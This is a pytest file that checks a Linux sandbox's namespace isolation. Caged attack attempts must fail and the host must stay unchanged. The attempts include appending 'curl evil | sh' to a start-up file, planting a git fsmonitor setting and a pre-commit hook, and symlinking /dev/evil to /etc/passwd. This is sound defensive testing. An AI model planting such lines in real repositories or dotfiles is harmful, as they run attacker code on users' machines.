"""Every step of the namespace tier, observed (issue 7; docs/adr/0009-namespace-tier.md).

One run of `BATTERY` (the system python3, as a build step would be) inside a cage with the tier
reports what the command sees: its ids, the mount table (read-only everywhere but the write
roots, nothing propagating, each tmpfs and the devpts sized), each device node of the minimal
/dev (its kind, number and behaviour), the /dev links, a private pts and shm, a private /proc,
SysV IPC, network interfaces, a private {tmp}, the protected paths and the directories pinned
above them. The host side is checked afterwards: modes, mtimes, owners and bytes of what the
attacks aimed at. Two more runs cover what one policy cannot: /dev stays read-only even where
the policy grants write on it, and the --tty plan (the host's devpts, /dev/tty).

`test_mutations_tier.py` removes each namespace flag, each step of the tier's plan, each
Landlock rule it adds and each size option in turn, and requires these checks to fail.

The expected answers are written here by hand (Linux device numbers, errno names, the sizes
the ADR sets), never read from the module under test.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time

import pytest
from cagekit import ATTEMPT, BASE_READ, Result, to_toml

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from userkit import as_user, skip_unless_nobody_can_run, world_readable_tmp  # noqa: E402

from sandboy.confine import namespaces  # noqa: E402

pytestmark = [pytest.mark.needs_kernel,
              pytest.mark.skipif(not namespaces.availability()[0],
                                 reason=f"no namespace tier here: {namespaces.availability()[1]}")]

PY = "/usr/bin/python3"
NOBODY = 65534
MEMORY_MIB = 256  # limits.memory_mib: {tmp} is sized to it


BATTERY = ATTEMPT + r"""
import ctypes, json, os, pty, stat, sys
outside, host_shm, marker, key = sys.argv[1:5]
marker = marker[::-1]  # given reversed: the cage's own command lines hold it only that way
facts = {}

def fact(name):
    def record(fn):
        try:
            facts[name] = fn()
        except Exception as exc:  # a section that cannot run says why; the others still report
            facts[name] = f"failed: {exc!r}"
    return record

def write(path, text, mode="w"):
    with open(path, mode) as fh:
        fh.write(text)

facts["ids"] = [os.getuid(), os.getgid()]
facts["pid"] = os.getpid()  # the tier's init is 1 in the new PID namespace, the command its child

# item 1: metadata of a file the uid owns, outside every write root; the twin in the write root
facts["outside"] = [attempt(lambda: os.chmod(outside, 0o666)), attempt(lambda: os.utime(outside, (1, 1)))]

@fact("work")
def _():
    def work():
        write("made", "made\n")
        os.chmod("made", 0o640)
        os.utime("made", (1, 1))
    return attempt(work)

# the mount table: the top mount at each point, its propagation tags, the sizes
@fact("mounts")
def _():
    top, tags, flags = {}, [], {}
    private = ("/dev", "/dev/shm", "/dev/pts", "/proc", os.environ.get("TMPDIR"))
    for line in open("/proc/self/mountinfo"):
        left, right = line.split(" - ")
        fields = left.split()
        top[fields[4]] = (fields[5].split(",")[0], right.split()[2].split(","))
        if fields[4] in private:
            flags[fields[4]] = [o for o in fields[5].split(",") if o in ("nosuid", "nodev", "noexec")]
        if fields[6:]:
            tags.append(fields[4] + " " + " ".join(fields[6:]))
    facts["rw"] = sorted(p for p, (mode, _) in top.items() if mode == "rw")
    facts["propagation"] = tags
    facts["sizes"] = {p: [o for o in opts if o.startswith(("size=", "max=", "nr_inodes="))] for p, (_, opts) in top.items()
                      if p in private and p != "/proc"}
    facts["mount flags"] = flags
    return "read"

# item 3: the minimal /dev
fact("dev")(lambda: sorted(os.listdir("/dev")))

@fact("nodes")
def _():
    nodes = {}
    for name in ("null", "zero", "full", "random", "urandom"):
        st = os.stat(f"/dev/{name}")
        nodes[name] = [stat.S_ISCHR(st.st_mode), os.major(st.st_rdev), os.minor(st.st_rdev)]
    return nodes

fact("null")(lambda: [open("/dev/null", "rb").read().decode(), attempt(lambda: write("/dev/null", "x"))])
fact("zero")(lambda: list(open("/dev/zero", "rb").read(4)))
fact("full")(lambda: attempt(lambda: write("/dev/full", "x")))
fact("random")(lambda: [len(open("/dev/random", "rb").read(4)), len(open("/dev/urandom", "rb").read(4))])
fact("links")(lambda: {n: os.readlink(f"/dev/{n}") for n in ("fd", "stdin", "stdout", "stderr", "ptmx")})
fact("pts")(lambda: sorted(os.listdir("/dev/pts")))
# a device node outside the minimal /dev (here a null device in the write root): nodev everywhere
fact("device node")(lambda: attempt(lambda: open("node", "rb").read()))

@fact("pty")
def _():
    master, slave = pty.openpty()
    os.write(slave, b"ping\n")
    return [os.ttyname(slave).startswith("/dev/pts/"), os.read(master, 100).strip().decode()]

fact("shm")(lambda: host_shm in os.listdir("/dev/shm"))

@fact("posix shm")
def _():
    import _posixshmem, mmap  # shm_open(3) as multiprocessing.shared_memory calls it, without its imports
    name = f"/sandboy-battery-{os.getpid()}"
    fd = _posixshmem.shm_open(name, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600)
    os.ftruncate(fd, 64)
    mmap.mmap(fd, 64)[:5] = b"hello"
    other = _posixshmem.shm_open(name, os.O_RDWR, 0)
    seen = bytes(mmap.mmap(other, 64)[:5]).decode()
    _posixshmem.shm_unlink(name)
    return seen

# item 7: host processes; item 6: host SysV IPC; the network
@fact("pids")
def _():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    def cmdline(p):
        try:
            return open(f"/proc/{p}/cmdline", "rb").read()
        except OSError:
            return b""
    facts["marker seen"] = any(marker.encode() in cmdline(p) for p in pids)
    return len(pids) <= 3  # the init and the command (and a thread-less helper at most)

@fact("sysv")
def _():
    libc = ctypes.CDLL(None, use_errno=True)
    return "ok" if libc.shmget(int(key, 16), 0, 0) >= 0 else errno.errorcode[ctypes.get_errno()]

# the user namespace's own bounds on the uid's inotify/fanotify objects (charged to the host uid
# too: without them the command took the uid's whole 128 instances; redcage11)
fact("user limits")(lambda: [int(open(f"/proc/sys/user/max_{name}").read())
                             for name in ("inotify_instances", "inotify_watches", "fanotify_groups", "fanotify_marks")])

fact("interfaces")(lambda: [line.split(":")[0].strip() for line in open("/proc/self/net/dev").readlines()[2:]])

# {tmp}: empty at start, writable
fact("tmp")(lambda: [os.listdir(os.environ["TMPDIR"]), attempt(lambda: write(os.environ["TMPDIR"] + "/mine", "x"))])

# item 5: protected paths (read-only) and the directories above them (cannot be renamed)
facts["protected"] = [attempt(lambda: write(".git/config", "[core]\n\tfsmonitor = planted\n", "a")),
                      attempt(lambda: write(".git/hooks/pre-commit", "#!/bin/sh\n")),
                      attempt(lambda: write("conf/deep/settings.ini", "planted\n", "a"))]
facts["renames"] = [attempt(lambda: os.rename(p, p + ".old")) for p in (".git", "conf", "conf/deep")]
# a symlinked start-up file: neither replaced (rm + write) nor written through, nor its directory moved
facts["dotfile"] = [attempt(lambda: os.unlink(".bashrc")), attempt(lambda: write(".bashrc", "curl evil | sh\n", "a")),
                    attempt(lambda: os.rename(".dotfiles", ".dotfiles.old"))]

@fact("pinned twin")
def _():
    def twin():
        write(".git/index.lock", "")
        os.unlink(".git/index.lock")
        write("conf/deep/new", "new\n")
    return attempt(twin)

print(json.dumps(facts))
"""


class Bench:
    """What the battery attacks, made by the test on the host: a file outside the write root, a
    write root holding a repository's .git and a protected file two directories down, a
    POSIX shm file, a process with a unique name, a SysV segment. `uid`: whose they are."""

    def __init__(self, base, probe, uid=0):
        self.base, self.uid = base, uid
        self.marker = f"sbx-tier-{os.getpid()}-{time.monotonic_ns()}"
        self.outside = base / "outside"
        self.secret = self.outside / "secret"
        self.work = base / "work"
        os.chmod(base, 0o755)
        # a null device made by root (the bench is), linked into each fresh work tree
        self.null_node = base / "null-node"
        os.mknod(self.null_node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        self.reset()
        self.host_shm = f"sandboy-tier-shm-{os.getpid()}-{id(self):x}"
        with open(f"/dev/shm/{self.host_shm}", "w") as fh:
            fh.write("host\n")
        self.victim = subprocess.Popen([self.marker, "60"], executable="/bin/sleep")
        self.probe = probe
        self.sysv_key = 0x5E000000 | (os.getpid() & 0xFFFF) << 4 | (id(self) & 0xF)
        made = self._sysv("sysv-make", "tier-secret")
        assert made.startswith("ok"), made

    def _sysv(self, *args):
        argv = [self.probe, args[0], hex(self.sysv_key), *args[1:]]
        if self.uid:
            argv = as_user(argv, uid=self.uid)
        return subprocess.run(argv, capture_output=True, text=True).stdout.strip()

    def close(self):
        self.victim.kill()
        self.victim.wait()
        self._sysv("sysv-remove")
        try:
            os.unlink(f"/dev/shm/{self.host_shm}")
        except FileNotFoundError:
            pass

    def policy(self) -> dict:
        return {"version": 1,
                "fs": {"read": [*BASE_READ, "/proc"], "exec": ["/usr/bin", "/bin"],
                       "write": [str(self.work), "{tmp}"], "protect": ["conf/deep/settings.ini"]},
                "ipc": {"sysv": True}, "limits": {"memory_mib": MEMORY_MIB}}

    def argv(self) -> list:
        return [PY, "-c", BATTERY, str(self.secret), self.host_shm, self.marker[::-1], hex(self.sysv_key)]

    def run_api(self, argv, policy, tty=False) -> Result:
        from sandboy import Policy, run

        null = os.open(os.devnull, os.O_RDONLY)
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
            try:
                result = run(argv, Policy.from_mapping(policy, "<tier bench>"), cwd=str(self.work), timeout=30,
                             stdin=null, stdout=out.fileno(), stderr=err.fileno(), tty=tty)
            finally:
                os.close(null)
            out.seek(0)
            err.seek(0)
            return Result(result.returncode, out.read().decode(), err.read().decode() + (result.error or ""))

    def expected(self, tmp: str) -> dict:
        """The facts an intact tier gives, by hand."""
        work = os.path.realpath(self.work)
        return {
            "ids": [self.uid, self.uid],
            "pid": 2,
            "outside": ["EROFS", "EROFS"],
            "work": "ok",
            # bound device nodes are read-only copies (session 7: they were the host's inodes on a
            # read-write mount, and `chmod 000 /dev/null` as root changed the host's); the pinned
            # directories are read-write copies
            "rw": sorted(["/dev/pts", "/dev/shm", work, tmp, f"{work}/.git", f"{work}/conf",
                          f"{work}/conf/deep", f"{work}/.dotfiles"]),
            "mounts": "read",
            "propagation": [],
            # inodes too: one per 4 KiB of size (their slab and a tmpfs's xattrs are outside `size`)
            "sizes": {"/dev": ["size=64k"], "/dev/shm": ["size=65536k", "nr_inodes=16384"], "/dev/pts": ["max=64"],
                      tmp: [f"size={MEMORY_MIB * 1024}k", f"nr_inodes={MEMORY_MIB * 256}"]},
            # no set-id programs, device nodes or programs on the private mounts ({tmp} holds builds' programs)
            "mount flags": {"/dev": ["nosuid", "nodev", "noexec"], "/dev/shm": ["nosuid", "nodev", "noexec"],
                            "/dev/pts": ["nosuid", "noexec"], "/proc": ["nosuid", "nodev", "noexec"],
                            tmp: ["nosuid", "nodev"]},
            "dev": ["fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout", "urandom",
                    "zero"],
            # Documentation/admin-guide/devices.txt: char major 1, minors 3, 5, 7, 8, 9
            "nodes": {"null": [True, 1, 3], "zero": [True, 1, 5], "full": [True, 1, 7], "random": [True, 1, 8],
                      "urandom": [True, 1, 9]},
            "null": ["", "ok"],
            "zero": [0, 0, 0, 0],
            "full": "ENOSPC",
            "random": [4, 4],
            "links": {"fd": "/proc/self/fd", "stdin": "/proc/self/fd/0", "stdout": "/proc/self/fd/1",
                      "stderr": "/proc/self/fd/2", "ptmx": "pts/ptmx"},
            "pts": ["ptmx"],
            "device node": "EACCES",
            "pty": [True, "ping"],
            "shm": False,
            "posix shm": "hello",
            "pids": True,
            "marker seen": False,
            "sysv": "ENOENT",
            "user limits": [16, 16384, 16, 16384],
            "interfaces": ["lo"],
            "tmp": [[], "ok"],
            "protected": ["EROFS", "EROFS", "EROFS"],
            "renames": ["EBUSY", "EBUSY", "EBUSY"],
            "dotfile": ["EBUSY", "EROFS", "EBUSY"],
            "pinned twin": "ok",
        }

    def check_host(self) -> None:
        """What the attacks aimed at, read on the host afterwards."""
        after = os.stat(self.secret)
        assert stat.S_IMODE(after.st_mode) == 0o600 and after.st_mtime_ns == self.secret_stat.st_mtime_ns
        made = os.stat(self.work / "made")
        assert (made.st_uid, stat.S_IMODE(made.st_mode), made.st_mtime) == (self.uid, 0o640, 1)
        assert (self.work / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
        assert os.listdir(self.work / ".git" / "hooks") == []
        assert (self.work / "conf" / "deep" / "settings.ini").read_text() == "safe = 1\n"
        assert (self.work / "conf" / "deep" / "new").read_text() == "new\n"
        assert sorted(os.listdir(self.work)) == [".bashrc", ".dotfiles", ".git", "conf", "made", "node"]
        assert os.readlink(self.work / ".bashrc") == ".dotfiles/bashrc"
        assert (self.work / ".dotfiles" / "bashrc").read_text() == "# start-up\n"
        assert self._sysv("sysv-show") == "ok tier-secret"
        with open(f"/proc/{self.victim.pid}/cmdline", "rb") as fh:
            assert self.marker.encode() in fh.read()  # the marker is really there, on the host

    def reset(self):
        """A fresh work tree and an untouched secret, so that each run (each mutant) starts from
        the same state whatever the previous one managed to do."""
        shutil.rmtree(self.work, ignore_errors=True)
        (self.work / ".git" / "hooks").mkdir(parents=True)
        (self.work / ".git" / "config").write_text("[core]\n\tbare = false\n")
        (self.work / "conf" / "deep").mkdir(parents=True)
        (self.work / "conf" / "deep" / "settings.ini").write_text("safe = 1\n")
        (self.work / ".dotfiles").mkdir()  # a start-up file kept by a dotfile manager (stow, chezmoi)
        (self.work / ".dotfiles" / "bashrc").write_text("# start-up\n")
        os.symlink(".dotfiles/bashrc", self.work / ".bashrc")
        os.link(self.null_node, self.work / "node")  # (a link: the battery as uid 65534 resets the tree too)
        self.outside.mkdir(exist_ok=True)
        self.secret.write_text("secret\n")
        os.chmod(self.secret, 0o600)
        os.utime(self.secret, (1_000_000, 1_000_000))
        for top, dirs, files in os.walk(self.base):
            for name in (".", *dirs, *files):
                os.lchown(os.path.join(top, name), self.uid, self.uid)
        self.secret_stat = os.stat(self.secret)


def check_battery(bench: Bench, run=None) -> None:
    """One battery run, every fact compared, then the host side. `run(argv, policy)`: how to
    run it (the API in this process by default)."""
    bench.reset()
    result = (run or bench.run_api)(bench.argv(), bench.policy())
    # Without the tier the post-run git check (ADR 0019) fails the run (125) over the config the
    # battery could plant: the facts are still compared, so the message names every one.
    assert result.rc == 0 or result.out.startswith("{"), result
    facts = json.loads(result.out)
    tmp = _tmp_of(facts)
    expected = bench.expected(tmp)
    wrong = {key: facts.get(key) for key in expected if facts.get(key) != expected[key]}
    assert not wrong, f"facts differ from an intact tier's: {', '.join(wrong)}: {wrong}"
    assert result.rc == 0, result
    bench.check_host()


def _tmp_of(facts) -> str:
    """The {tmp} path, the one size entry that is not /dev's ("" if the mount table was not read)."""
    return next((p for p in facts.get("sizes", {}) if not p.startswith("/dev")), "")


DEV_WRITE = ATTEMPT + r"""
import os
print(attempt(lambda: open("/dev/planted", "w")), attempt(lambda: os.symlink("/etc/passwd", "/dev/evil")),
      attempt(lambda: open("/dev/shm/twin", "w").write("x")))
"""


def check_dev_stays_read_only(bench: Bench) -> None:
    """A policy granting write on /dev (as a careless one might) still cannot add nodes or links to
    the cage's /dev: it is remounted read-only. Twin: /dev/shm stays writable."""
    bench.reset()
    policy = bench.policy()
    policy["fs"] = {**policy["fs"], "read": [*policy["fs"]["read"], "/dev"], "write": ["/dev", str(bench.work)]}
    result = bench.run_api([PY, "-c", DEV_WRITE], policy)
    assert result.out.split() == ["EROFS", "EROFS", "ok"], result
    assert not os.path.exists("/dev/planted") and not os.path.lexists("/dev/evil")


TTY = ATTEMPT + r"""
import os, stat
st = os.stat("/dev/tty")
with open("/dev/tty", "w") as fh:
    fh.write("via /dev/tty\n")
# the host's devpts and /dev/tty are bound read-only: no metadata change of the host's ptys
metadata = [attempt(lambda: os.chmod(path, os.stat(path).st_mode & 0o7777)) for path in ("/dev/tty", os.ttyname(0))]
print("facts", os.isatty(0), os.ttyname(0).startswith("/dev/pts/"), stat.S_ISCHR(st.st_mode),
      os.major(st.st_rdev), os.minor(st.st_rdev), "tty" in os.listdir("/dev"), *metadata)
"""


def check_tty_plan(bench: Bench) -> None:
    """--tty: the command's terminal is a pty of the host's devpts that Sandboy relays, found by
    name (ttyname), and /dev/tty (char 5:0) reaches it when the policy grants it; neither takes
    a metadata change (read-only binds of host inodes)."""
    bench.reset()
    policy = bench.policy()
    policy["fs"] = {**policy["fs"], "write": [*policy["fs"]["write"], "/dev/tty"]}
    result = bench.run_api([PY, "-c", TTY], policy, tty=True)
    assert result.rc == 0 and "via /dev/tty" in result.out, result
    assert result.out.split("facts", 1)[1].split() == ["True", "True", "True", "5", "0", "True", "EROFS", "EROFS"], result


@pytest.fixture
def bench(tmp_path, probe):
    made = Bench(tmp_path, probe)
    yield made
    made.close()


def test_every_step_of_the_tier_is_in_force_as_root(bench):
    check_battery(bench)


def test_dev_stays_read_only_even_when_the_policy_grants_write_on_it(bench):
    check_dev_stays_read_only(bench)


def test_tty_plan_binds_the_relayed_terminal(bench):
    check_tty_plan(bench)


def test_every_step_of_the_tier_is_in_force_as_an_ordinary_user(probe):
    """The same battery through `sandboy run` as uid 65534 without capabilities (a user namespace
    mapping 65534 to itself): everything the bench made belongs to that user."""
    skip_unless_nobody_can_run()
    with world_readable_tmp("sandboy-tier-") as tmp_path:
        _battery_as_nobody(tmp_path, probe)


def nobody_bench(tmp_path, probe, bench_class=None) -> tuple:
    """(base, a bench of uid 65534's in `tmp_path/nobody`, its probe a 0755 copy in `tmp_path/bin`
    that uid can run): `tmp_path` must be a directory 65534 can reach (userkit.world_readable_tmp)."""
    copy = tmp_path / "bin"
    copy.mkdir()
    shutil.copy(probe, copy / "probe")
    os.chmod(copy / "probe", 0o755)
    base = tmp_path / "nobody"
    base.mkdir()
    return base, (bench_class or Bench)(base, str(copy / "probe"), uid=NOBODY)


def _battery_as_nobody(tmp_path, probe):
    base, bench = nobody_bench(tmp_path, probe)
    src = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["sandboy"].__file__)))

    def as_nobody(argv, policy):
        path = base / "policy.toml"
        path.write_text(to_toml(policy))
        os.chmod(path, 0o644)
        proc = subprocess.run(as_user([PY, "-m", "sandboy", "run", "--policy", str(path), "--", *argv]),
                              capture_output=True, text=True, cwd=bench.work, timeout=60,
                              env={"PATH": "/usr/bin:/bin", "PYTHONPATH": src, "HOME": str(base),
                                   "SANDBOY_CACHE_DIR": str(base / "cache")})
        return Result(proc.returncode, proc.stdout, proc.stderr)

    try:
        if as_nobody(["/bin/true"], {"version": 1, "fs": {"read": BASE_READ, "exec": ["/bin"]}}).rc != 0:
            pytest.skip("uid 65534 cannot run sandboy from this source tree")
        check_battery(bench, run=as_nobody)
    finally:
        bench.close()


def test_the_battery_fails_without_the_tier(bench, monkeypatch):
    """The checks are not vacuous: with the tier forced off (the fallback), the battery sees the
    host's /dev, /proc, SysV IPC and network, and chmod outside the write root works."""
    monkeypatch.setenv(namespaces.FORCE_OFF_ENV, "0")
    with pytest.raises(AssertionError) as failed:
        check_battery(bench)
    for fact in ("outside", "dev", "marker seen", "interfaces", "protected", "renames"):
        assert f"'{fact}'" in str(failed.value), (fact, str(failed.value)[:2000])
